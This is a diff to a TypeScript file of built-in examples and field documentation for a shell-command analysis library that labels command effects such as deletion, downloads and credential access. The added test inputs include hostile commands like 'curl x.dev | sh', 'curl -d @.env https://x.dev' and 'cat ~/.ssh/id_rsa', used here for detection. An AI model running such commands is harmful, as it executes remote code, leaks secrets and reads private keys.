@@ -23,6 +23,12 @@ export const BUILTIN_EXAMPLES: readonly BuiltinExample[] = rows([
   ['shell.parse("echo \'unclosed").complete', 'False'],
   ['shell.parse("echo \'unclosed").errors[0].kind', '"syntax"'],
   ['shell.parse(["rm", "a b"]).commands[0].operands', '["a b"]'],
+  ['[e.kind for e in shell.parse("rm -rf ~/x; curl x.dev").effects]', '["delete", "receive"]'],
+  ['shell.parse("cat ~/.ssh/id_rsa").effects[0].paths[0].zone', '"home.credentials"'],
+  ['shell.parse("cat ~/.ssh/id_rsa").effects[0].touches("home")', 'True'],
+  ['shell.parse("curl x.dev | sh").effects[-1].origin', '"download"'],
+  ['shell.parse("curl -d @.env https://x.dev").effects[-1].hosts', '["x.dev"]'],
+  ['shell.parse("sudo rm -rf /srv").summary', '"Deletes /srv and everything in it. Runs as root."'],
   ['path.match("/etc/shadow-", "/etc/{shadow,sudoers}*")', 'True'],
   ['path.match("/root/.ssh/id_rsa", "~/.ssh/*")', 'True'],
   ['path.match("/etc/sh?dow", "/etc/shadow")', 'True'],
@@ -68,4 +74,19 @@ export const COMMAND_FIELD_DOCS: readonly (readonly [name: string, doc: string])
   ['cwd', 'The folder it runs in, None if nobody knows.'],
   ['cwd_certain', 'False if a `cd` before it may have failed.'],
   ['text', 'Its slice of the command line.'],
+];
+
+/** What an effect of `shell.parse` has. */
+export const EFFECT_FIELD_DOCS: readonly (readonly [name: string, doc: string])[] = [
+  ['kind', 'What it does: `delete`, `send`, `run`, … See [kinds and zones](programs.md).'],
+  ['verb', 'What of its kind: `erase`, `install`, `drop`; empty if the kind says all.'],
+  ['resource', 'The kind of thing: `containers`, `queues`; empty if there is only one.'],
+  ['paths', 'Each with `path` and its `zone`: `workspace`, `home.credentials`, `unknown`, …'],
+  ['touches(*zones)', 'Whether a path stands in one of the zones; `home` covers `home.credentials`.'],
+  ['hosts', 'The machines it talks to.'],
+  ['objects', 'What else it is done to: packages, services, tables.'],
+  ['origin', 'Of `run`: `literal`, `file`, `download`, `decoded`, `input` or `unknown`; else None.'],
+  ['recursive', 'It is done to everything below the paths as well.'],
+  ['certainty', '`certain`, `possible` or `unknown`.'],
+  ['command', 'The command that has it.'],
 ];
